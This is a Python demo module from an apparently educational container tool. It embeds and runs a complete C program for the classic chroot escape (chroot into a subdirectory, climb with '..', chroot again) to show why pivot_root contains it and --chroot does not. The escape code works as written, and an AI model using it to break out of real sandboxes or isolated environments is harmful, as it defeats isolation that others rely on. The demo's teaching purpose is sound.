"""demo escape: the classic chroot escape, under --chroot and under pivot_root."""

from __future__ import annotations

from minicontainer.demos import Demo, Step, all_of, contains

# mkdir x; chroot x; cd ../../..; chroot . -- in C, since busybox's and
# coreutils' chroot both chdir into the new root, which is the one thing the
# escape must not do. (tests/root/test_security_escape.py compiles this one too.)
ESCAPE_C = r"""/* The chroot escape: mkdir x; chroot x; cd ../../..; chroot .
   argv[1] is a path that exists only on the host. */
#include <errno.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
    struct stat st;
    if (argc != 2) { fprintf(stderr, "usage: escape HOST-FILE\n"); return 2; }
    if (mkdir("/escape-x", 0755) != 0 && errno != EEXIST) { perror("mkdir"); return 2; }
    /* the root moves into /escape-x; the current directory stays where it was, above it */
    if (chroot("/escape-x") != 0) { perror("chroot /escape-x"); return 2; }
    /* ".." is clamped only at the root, and the cwd is not below the root any more */
    for (int i = 0; i < 256; i++) {
        if (chdir("..") != 0) { perror("chdir .."); return 2; }
    }
    if (chroot(".") != 0) { perror("chroot ."); return 2; }
    puts(stat(argv[1], &st) == 0 ? "ESCAPED: the host's files are visible" : "INSIDE: still the container's root");
    return 0;
}
"""


def steps(ctx):
    return [
        Step(
            shows="the escape as a program: chroot into a subdirectory, climb with .., chroot there",
            command="cat $T/escape.c && mkdir -p $T/bin && gcc -static -O2 -o $T/bin/escape $T/escape.c && "
                    "echo 'a file on the host only' > $T/host-only && echo built",
            notice="it is static, so it runs in any image; $T/host-only is the file it looks for",
            check=contains("built"),
        ),
        Step(
            shows="run it as root in a container made with --chroot",
            command="minicontainer run --rm --chroot -v $T/bin:/demo:ro mini /demo/escape $T/host-only",
            notice="ESCAPED: the container's mount namespace still holds the host's whole tree above its root, "
                   "and chroot never moved the current directory; minicontainer warned first",
            check=all_of(contains("ESCAPED", "escapable")),
        ),
        Step(
            shows="the same program in a default container: pivot_root",
            command="minicontainer run --rm -v $T/bin:/demo:ro mini /demo/escape $T/host-only",
            notice="INSIDE: pivot_root made the image the root mount of the namespace and the old root was "
                   "unmounted, so .. of / is / and there is nothing above to climb to",
            check=contains("INSIDE"),
        ),
    ]


DEMO = Demo(
    name="escape",
    title="why pivot_root: the chroot escape",
    intro="""
        chroot(2) changes how / is resolved, not where the process is. A root process can chroot into a
        subdirectory while its current directory stays outside the new root, climb out with .., and chroot
        there: mkdir x; chroot x; cd ../../..; chroot . The demo compiles that into a static program and runs
        it in a container made with --chroot, then in one made the default way, with pivot_root.
    """,
    steps=steps,
    files={"escape.c": ESCAPE_C},
    needs=(("gcc", "apt-get install gcc libc6-dev (./scripts/setup does)"),),
)
